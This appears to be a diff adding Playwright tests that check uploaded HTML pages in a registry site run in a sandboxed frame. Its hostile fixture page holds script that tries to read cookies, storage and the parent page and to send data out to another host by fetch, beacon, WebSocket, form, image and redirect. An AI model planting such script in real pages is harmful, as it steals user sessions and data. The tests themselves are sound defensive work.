@@ -1,0 +1,127 @@
+"""An uploaded page is shown in a frame. It reads nothing of the registry and reaches no host, not even with scripts."""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import expect
+
+from .conftest import Site, Window
+
+HOSTILE = """<!doctype html><link rel="stylesheet" href="THERE/css"><img src="THERE/img">
+<h1>uploaded</h1><pre id="told"></pre>
+<form id="form" action="THERE/form" method="post"><input name="x"></form><iframe src="THERE/frame"></iframe>
+<script>
+const told = [];
+async function attempt(name, what) {
+  try { told.push(name + ": reached " + await what()); } catch (error) { told.push(name + ": refused"); }
+}
+(async () => {
+  await attempt("cookie", () => document.cookie);
+  await attempt("storage", () => localStorage.length);
+  await attempt("parent", () => parent.document.body.innerHTML);
+  await attempt("parent's address", () => parent.location.href);
+  await attempt("page of the registry", async () => (await fetch("HERE/settings")).text());
+  await attempt("elsewhere", async () => (await fetch("THERE/fetch", {mode: "no-cors"})).type);
+  navigator.sendBeacon("THERE/beacon", "x");
+  await attempt("socket", () => new Promise((yes, no) => {
+    const socket = new WebSocket("THERE/socket".replace("http", "ws")); socket.onopen = yes; socket.onerror = no; }));
+  await attempt("top", () => { top.location = "THERE/top"; return top.location.href; });
+  await attempt("window", () => open("THERE/window").document);
+  new Image().src = "THERE/image";
+  document.getElementById("form").submit();
+  document.getElementById("told").textContent = told.join("\\n");
+})();
+</script>"""
+LEAVING = """<!doctype html><h1>leaving</h1><script>location = "THERE/away?" + document.title;</script>"""
+LOG = """
+import sys, wandb
+with wandb.init(project="sandbox", id="hostile") as run:
+    run.log({"page": wandb.Html(sys.argv[1], inject=False)})
+    artifact = wandb.Artifact("pages", "report")
+    with artifact.new_file("hostile.html") as file:
+        file.write(sys.argv[1])
+    with artifact.new_file("leaving.html") as file:
+        file.write(sys.argv[2])
+    run.log_artifact(artifact).wait()
+"""
+
+
+@pytest.fixture(scope="module")
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Another host, and the paths that it was asked for."""
+    asked: list[str] = []
+
+    class Other(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("access-control-allow-origin", "*")
+            self.end_headers()
+
+        do_POST = do_OPTIONS = do_GET
+
+        def log_message(self, format: str, *_arguments: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Other)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", asked
+    server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def logged(site: Site, elsewhere: tuple[str, list[str]]) -> Site:
+    pages = [text.replace("THERE", elsewhere[0]).replace("HERE", site.url) for text in (HOSTILE, LEAVING)]
+    site.script("-c", LOG, *pages)
+    return site
+
+
+def test_a_hostile_page_reads_nothing_and_reaches_nobody(
+    logged: Site, window: Window, elsewhere: tuple[str, list[str]]
+):
+    page = window.open("/local/sandbox/artifacts/report/pages/v0/files/hostile.html")
+    framed = page.frame_locator("iframe.sandbox")
+    expect(framed.get_by_role("heading", name="uploaded")).to_be_visible()
+    expect(framed.locator("#told")).to_have_text("")  # no script runs before somebody asks for it
+    page.get_by_role("link", name="Run its scripts").click()
+    expect(page.get_by_text("In a sandbox: no network, no cookies.")).to_be_visible()
+    told = framed.locator("#told")
+    expect(told).to_contain_text("window:")
+    text = told.inner_text()
+    assert "reached" not in text, text
+    assert elsewhere[1] == []
+    assert page.url.startswith(window.url), "the page around it stays"
+    window.faults.clear()  # each refusal is told on the console
+
+
+def test_a_page_that_leaves_its_frame_gets_nowhere(logged: Site, window: Window, elsewhere: tuple[str, list[str]]):
+    page = window.open("/local/sandbox/artifacts/report/pages/v0/files/leaving.html?scripts=1")
+    expect(page.frame_locator("iframe.sandbox").get_by_role("heading", name="leaving")).to_have_count(0)
+    assert elsewhere[1] == []
+    window.faults.clear()
+
+
+def test_a_page_among_media_is_framed_without_scripts(logged: Site, window: Window, elsewhere: tuple[str, list[str]]):
+    page = window.open("/local/sandbox/runs/hostile/media")
+    frame = page.locator("iframe.sandbox")
+    frame.scroll_into_view_if_needed()
+    expect(page.frame_locator("iframe.sandbox").get_by_role("heading", name="uploaded")).to_be_visible()
+    assert frame.get_attribute("sandbox") == ""
+    window.check_width()
+    assert elsewhere[1] == []
+    window.faults.clear()
+
+
+def test_the_frames_address_opened_by_itself_is_a_sandbox_too(logged: Site, window: Window):
+    answer = window.page.request.get(
+        f"{window.url}/local/sandbox/artifacts/report/pages/v0/frame/hostile.html?scripts=1"
+    )
+    policy = answer.headers["content-security-policy"]
+    assert policy.startswith("sandbox allow-scripts; default-src 'none'")
+    assert "allow-same-origin" not in policy
+    other = window.page.request.get(f"{window.url}/local/vision/artifacts/dataset/digits/v1/frame/kept.txt")
+    assert other.status == 404
